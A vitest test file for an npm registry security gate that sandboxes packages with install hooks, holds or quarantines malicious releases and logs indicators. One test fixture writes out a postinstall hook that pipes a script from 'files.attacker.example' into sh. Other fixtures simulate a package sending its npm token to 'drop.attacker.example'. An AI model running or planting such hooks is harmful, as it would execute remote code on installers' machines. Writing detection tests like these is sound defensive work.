import { afterEach, expect, it } from 'vitest'
import type { SandboxPolicy } from '../src/core/cascade.ts'
import type { Finding, FoundIndicator } from '../src/core/types.ts'
import { startFakeNpm } from './fakes/npm.ts'
import type { FakeNpm } from './fakes/npm.ts'
import type { FakeVersion } from './fakes/npm-package.ts'
import { fakeRunner, SANDBOX_POLICY } from './fakes/runner.ts'
import type { FakeRunner } from './fakes/runner.ts'
import { startGate } from './harness/gate.ts'
import type { Gate, GateOptions } from './harness/gate.ts'

/** Who goes to the sandbox on the way through the gate, what clients see meanwhile, and what comes of it. */
const open: { close(): Promise<void> }[] = []
afterEach(async () => {
  for (const one of open.splice(0).reverse()) await one.close()
})

const HOOK: Partial<FakeVersion> = { manifest: { scripts: { postinstall: 'node setup.js' } }, files: { 'setup.js': "console.log('thanks')" } }
const OLD = new Date('2020-01-01T00:00:00Z')

const soon = <T>(look: () => T) => expect.poll(look)

interface World { npm: FakeNpm; gate: Gate; runner: FakeRunner }

async function world(versions: FakeVersion[], { runner = fakeRunner(), sandbox = {}, ...options }: Partial<GateOptions['limits']> & { runner?: FakeRunner; sandbox?: Partial<SandboxPolicy> } & Omit<GateOptions, 'sandbox'> = {}): Promise<World> {
  const npm = await startFakeNpm(versions)
  open.push(npm)
  const gate = await startGate({
    sources: { npm: { url: npm.url, sumdb: null } }, sandbox: runner, limits: { patience: 300 }, ...options, policy: { sandbox: { ...SANDBOX_POLICY, ...sandbox }, ...options.policy },
  })
  open.push(gate)
  return { npm, gate, runner }
}

/** What a client gets that comes when static examination is over: it waits for 300 ms in these tests. */
const get = async (gate: Gate, name: string, version: string): Promise<{ status: number; says: string }> => {
  await gate.app.operator.scan(`npm:${name}@${version}`)
  const response = await fetch(`${gate.npm}${name}/-/${name}-${version}.tgz`)
  const text = await response.text()
  return { status: response.status, says: response.status === 200 ? '' : (JSON.parse(text) as { error: string }).error }
}
const versionsOf = async (gate: Gate, name: string): Promise<string[]> => Object.keys((await (await fetch(`${gate.npm}${name}`, { headers: { accept: 'application/vnd.npm.install-v1+json' } })).json() as { versions: object }).versions)
const decided = async (gate: Gate, name: string) => (await gate.app.operator.trace({ ecosystem: 'npm', name }, { kinds: ['decided'] })).lines.map(({ entry }) => entry)
const verdict = (gate: Gate, name: string) => gate.app.context.database.query.selectFrom('verdicts').selectAll().where('name', '=', name).orderBy('version', 'desc').executeTakeFirstOrThrow()

it('holds a release with a new hook until it was run, hides it meanwhile, and frees it by itself', async () => {
  const { gate, runner } = await world([{ name: 'up', version: '1.0.0' }, { name: 'up', version: '1.0.1', ...HOOK }])
  expect((await get(gate, 'up', '1.0.0')).status).toBe(200)
  runner.stop()
  const held = await get(gate, 'up', '1.0.1')
  expect(held.status).toBe(403)
  expect(held.says).toContain('being run in the sandbox, try again in a few minutes: since 1.0.0 it has install-hook postinstall: node setup.js')
  expect(await versionsOf(gate, 'up')).toEqual(['1.0.0'])
  await soon(() => gate.app.sandbox.desk.status()).toMatchObject({ works: true, running: 1, waiting: 1, held: 1 })
  runner.go()
  await soon(() => get(gate, 'up', '1.0.1')).toEqual({ status: 200, says: '' })
  expect(await versionsOf(gate, 'up')).toEqual(['1.0.0', '1.0.1'])
  expect(runner.begun.map(({ ref }) => `${ref.name}@${ref.version}`)).toEqual(['up@1.0.1'])
  const [before, after] = (await decided(gate, 'up')).filter(({ version }) => version === '1.0.1')
  expect([before?.action, before?.reason, before?.facts?.['sandbox']]).toEqual(['hold', 'running', 'sandbox: not run yet: since 1.0.0 it has install-hook postinstall: node setup.js'])
  expect([after?.action, after?.facts?.['sandbox'], after?.facts?.['run']]).toEqual(['serve', 'completed by fake', expect.stringMatching(/^[0-9a-f-]{36}$/)])
  expect((await gate.app.operator.verifyLedger()).ok).toBe(true)
})

it('lets a client wait for a short run, as for a verdict', async () => {
  const { gate } = await world([{ name: 'up', version: '1.0.0', ...HOOK, publishedAt: new Date() }], { limits: { patience: 60_000 } })
  expect((await get(gate, 'up', '1.0.0')).status).toBe(200)
})

it('quarantines what did harm when it was run, with its indicators and the run in the ledger', async () => {
  const { gate, runner } = await world([{ name: 'up', version: '1.0.0', ...HOOK, publishedAt: new Date() }], { limits: { patience: 60_000 } })
  runner.sees.set('up', { does: 'critical', reaches: ['drop.attacker.example'] })
  const answer = await get(gate, 'up', '1.0.0')
  expect(answer.status).toBe(403)
  expect(answer.says).toContain('sends the npm token it read to drop.attacker.example')
  const row = await verdict(gate, 'up')
  expect([row.level, (JSON.parse(row.indicators ?? '[]') as FoundIndicator[])[0]]).toEqual(['malicious', { type: 'domain', value: 'drop.attacker.example', file: 'setup.js', line: 1 }])
  const found = await gate.app.hunter.hunt({ what: 'drop.attacker.example' })
  expect(found.hits.map(({ name }) => name)).toEqual(['up'])
  expect((await decided(gate, 'up')).map(({ action, reason }) => `${action} ${reason}`)).toEqual(['hold running', 'quarantine malicious'])
})

it('runs a sample behind clients\' backs, and takes back what it served when that did harm', async () => {
  const notices: string[] = []
  const { gate, runner } = await world([{ name: 'up', version: '1.0.0' }], { sandbox: { sample: { share: 1, runs: 'behind' } }, onNotice: ({ title }) => void notices.push(title) })
  runner.sees.set('up', { does: 'critical' })
  runner.stop()
  expect((await get(gate, 'up', '1.0.0')).status).toBe(200)
  runner.go()
  await soon(async () => (await get(gate, 'up', '1.0.0')).status).toBe(403)
  await soon(() => gate.app.recallBook.list()).toMatchObject([{ name: 'up', cause: 'verdict' }])
})

it('holds a sample where policy says so', async () => {
  const { gate, runner } = await world([{ name: 'up', version: '1.0.0' }], { sandbox: { sample: { share: 1, runs: 'hold' } } })
  runner.stop()
  expect((await get(gate, 'up', '1.0.0')).says).toContain('being run in the sandbox')
  runner.go()
  await soon(async () => (await get(gate, 'up', '1.0.0')).status).toBe(200)
})

it('serves the first version with a hook that is old enough, and runs it behind', async () => {
  const { gate, runner } = await world([{ name: 'up', version: '1.0.0', ...HOOK, publishedAt: OLD }])
  expect((await get(gate, 'up', '1.0.0')).status).toBe(200)
  await soon(() => runner.begun.length).toBe(1)
})

it('keeps what a run found when newer rules judge again, and does not run again', async () => {
  const { gate, runner } = await world([{ name: 'up', version: '1.0.0', ...HOOK, publishedAt: new Date() }], { limits: { patience: 60_000 } })
  runner.sees.set('up', { does: 'critical', reaches: ['drop.attacker.example'] })
  expect((await get(gate, 'up', '1.0.0')).status).toBe(403)
  const { context, door } = gate.app
  const found = await door.settling.find('npm', 'up', 'up-1.0.0.tgz')
  if ('absent' in found) throw new Error('not there')
  await door.settling.admit(found)
  const row = await verdict(gate, 'up')
  expect([row.level, (JSON.parse(row.findings) as Finding[]).filter(({ detector }) => detector === 'sends-what-it-read')]).toEqual(['malicious', [expect.anything()]])
  expect(runner.begun).toHaveLength(1)
  expect(await context.database.query.selectFrom('sandbox_wants').select('state').execute()).toEqual([{ state: 'done' }])
})

it('uses a run again for the same bytes under another name, until sandbox or judge change', async () => {
  const same = { manifest: { name: 'same', scripts: { postinstall: 'node setup.js' } }, files: { 'setup.js': 'console.log(1)' }, publishedAt: new Date() }
  const { gate, runner, npm } = await world([{ name: 'one', version: '1.0.0', ...same }, { name: 'two', version: '1.0.0', ...same }, { name: 'three', version: '1.0.0', ...same }], { limits: { patience: 60_000 } })
  expect(npm.tarball('one', '1.0.0').equals(npm.tarball('two', '1.0.0'))).toBe(true)
  runner.sees.set('one', { does: 'critical' })
  expect((await get(gate, 'one', '1.0.0')).status).toBe(403)
  expect((await get(gate, 'two', '1.0.0')).says).toContain('sends the npm token')
  expect(runner.begun).toHaveLength(1)
  runner.versionOf.judge = 'judge@2'
  await get(gate, 'three', '1.0.0')
  await soon(() => runner.begun.map(({ ref }) => ref.name)).toEqual(['one', 'three'])
})

it('takes a person\'s word, an allow rule and a changed policy before the wait', async () => {
  const { gate, runner } = await world([{ name: 'up', version: '1.0.0', ...HOOK, publishedAt: new Date() }])
  runner.stop()
  expect((await get(gate, 'up', '1.0.0')).status).toBe(403)
  const policy = gate.app.context.policy()
  await gate.app.setPolicy({ ...policy, id: 'allowing', allow: [{ ecosystem: 'npm', name: 'up', versions: [], lifts: ['sandbox'], because: 'ours', expires: null }] })
  expect((await get(gate, 'up', '1.0.0')).status).toBe(200)
  await gate.app.setPolicy(policy)
  expect((await get(gate, 'up', '1.0.0')).status).toBe(403)
  await gate.app.setPolicy({ ...policy, id: 'calmer', sandbox: { ...SANDBOX_POLICY, firstHooks: 'behind' } })
  expect((await get(gate, 'up', '1.0.0')).status).toBe(200)
  await gate.app.setPolicy(policy)
  await gate.app.operator.order({ ecosystem: 'npm', name: 'up', version: '1.0.0', digest: null, action: 'release', because: 'known', by: 'ann', expiresAt: null })
  expect((await get(gate, 'up', '1.0.0')).status).toBe(200)
  runner.go()
})

it('holds what somebody who is watched publishes, and leaves names of ours to their hooks', async () => {
  const by = (name: string): Partial<FakeVersion> => ({ registryManifest: { _npmUser: { name } }, publishedAt: OLD })
  const { gate, runner } = await world([{ name: 'theirs', version: '1.0.0', ...by('Mallory') }, { name: 'others', version: '1.0.0', ...by('ann') }, { name: '@acme/tool', version: '1.0.0', ...HOOK, publishedAt: new Date() }], {})
  await gate.app.lookout.watch({ ecosystem: 'npm', actor: 'mallory', because: 'case 17', by: 'ann' })
  const policy = gate.app.context.policy()
  await gate.app.setPolicy({ ...policy, id: 'ours', private: [{ ecosystem: 'npm', pattern: '@acme/*', registry: gate.app.context.sources.public.npm.url }] })
  runner.stop()
  expect((await get(gate, 'theirs', '1.0.0')).says).toContain('its uploader Mallory is watched (case 17)')
  expect((await get(gate, 'others', '1.0.0')).status).toBe(200)
  await gate.app.operator.scan('npm:@acme/tool@1.0.0')
  expect((await fetch(`${gate.npm}@acme/tool/-/tool-1.0.0.tgz`)).status).toBe(200)
  runner.go()
})

it('runs what is malicious for what can be learnt, where policy wants that, and what a run reached ties campaigns', async () => {
  const { gate, runner } = await world([{ name: 'up', version: '1.0.0', manifest: { scripts: { postinstall: 'curl -s http://files.attacker.example/x.sh | sh' } } }], { sandbox: { malicious: 'behind' } })
  runner.sees.set('up', { does: 'critical', reaches: ['second.attacker.example'] })
  expect((await get(gate, 'up', '1.0.0')).says).toContain('files.attacker.example')
  await soon(async () => (JSON.parse((await verdict(gate, 'up')).indicators ?? '[]') as FoundIndicator[]).map(({ value }) => value)).toEqual(expect.arrayContaining(['second.attacker.example', 'files.attacker.example']))
  // Numbered anew, so that the watch reads it again.
  const numbers = await gate.app.context.database.query.selectFrom('judgements').select('seq').where('name', '=', 'up').execute()
  expect(numbers).toEqual([{ seq: 2 }])
})
